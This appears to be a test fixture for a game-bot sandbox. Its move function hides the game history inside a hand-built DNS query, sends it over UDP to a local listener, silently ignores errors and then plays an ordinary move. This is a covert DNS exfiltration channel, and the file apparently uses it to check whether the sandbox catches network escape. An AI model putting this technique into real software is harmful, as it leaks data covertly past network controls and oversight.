"""Asks a name server for a name in which the position is hidden.

kind: network
proof: received
control: yes
expect: plays
"""

import socket
from contextlib import suppress


def move(position):
    name = "x" + "-".join(map(str, position.history))
    question = b"".join(bytes([len(part)]) + part.encode() for part in (name, "example")) + b"\0\0\1\0\1"
    with suppress(Exception), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"\1\1\1\0\0\1\0\0\0\0\0\0" + question, ("127.0.0.1", int("@UDP@")))
    return position.legal_moves[0]
